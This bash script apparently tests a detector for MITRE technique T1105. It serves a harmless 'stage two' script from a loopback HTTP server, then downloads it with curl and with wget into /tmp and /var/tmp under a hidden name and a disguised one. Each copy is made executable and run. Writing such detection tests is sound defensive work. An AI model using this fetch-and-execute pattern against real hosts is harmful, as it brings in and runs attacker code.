#!/bin/bash
# Fetch a second-stage program over HTTP from a loopback web server into /tmp with curl and
# wget, make it executable and run it: the usual way an intruder brings in a tool.
# technique: T1105
# expect: tmp-download-exec
set -eu
mkdir -p "$TPY_WORK/site"
printf '#!/bin/sh\necho stage two\n' > "$TPY_WORK/site/stage2.sh"
python3 -u -m http.server 0 --bind 127.0.0.1 --directory "$TPY_WORK/site" > "$TPY_WORK/http.log" 2>&1 &
server=$!
trap 'kill "$server" 2>/dev/null || true' EXIT
port=""
for _ in $(seq 50); do
    port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$TPY_WORK/http.log" | head -n1)
    [ -n "$port" ] && break
    sleep 0.1
done
[ -n "$port" ]
curl -fsS -o /tmp/.stage2 "http://127.0.0.1:$port/stage2.sh"
chmod +x /tmp/.stage2
/tmp/.stage2
wget -q -O /var/tmp/update.sh "http://127.0.0.1:$port/stage2.sh"
chmod 755 /var/tmp/update.sh
/var/tmp/update.sh
